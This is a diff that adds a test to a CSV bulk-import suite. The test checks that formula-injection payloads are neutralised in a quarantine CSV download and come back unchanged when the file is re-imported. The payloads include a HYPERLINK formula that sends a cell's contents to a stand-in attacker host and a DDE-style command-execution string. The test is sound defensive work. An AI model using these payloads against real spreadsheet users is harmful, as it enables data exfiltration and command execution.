@@ -228,6 +228,22 @@ describe(`CSV bulk import on ${TEST_STORE}`, () => {
     expect(lines).toHaveLength(3);
   });
 
+  it('guards cells a spreadsheet would run in the quarantine CSV, and reads them back as they were', async () => {
+    const payloads = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+1', '-2+3'];
+    const rows = payloads.map((p, i) => `NCC-F${i},01/03/2026,Fishing,Newport,Newport,,"${p.replace(/"/g, '""')}",,,,,,,${i},`);
+    const summary = await importFile(file(rows), 'formulas.csv');
+    expect(summary.quarantined).toBe(payloads.length);
+    const download = (await partner.request('GET', `/api/imports/${summary.id}/quarantine.csv`)).body;
+    // Every payload is written as text, behind an apostrophe: no cell starts with =, +, - or @.
+    const cells = download.split(/[,\n]/).map((c) => c.replace(/^"|"$/g, ''));
+    expect(cells.filter((c) => /^[=+\-@]/.test(c))).toEqual([]);
+    for (const p of payloads) expect(download).toContain(`'${p.split('"')[0]}`);
+    // Put right in a spreadsheet and imported again, each cell reads as it was first written.
+    const back = await importFile(Buffer.from(download, 'utf8'), 'formulas-quarantine.csv');
+    const again = (await partner.request('GET', `/api/imports/${back.id}/quarantine`)).json<Quarantine>();
+    expect(again.rows.map((r) => r.cells[6])).toEqual(payloads);
+  });
+
   it('does not refuse again a row put right in Harbour when the same file comes back', async () => {
     const again = await importFile(file());
     // Line 5 (their NCC-4, Cardiff) was put right above: it is known by its reference now.
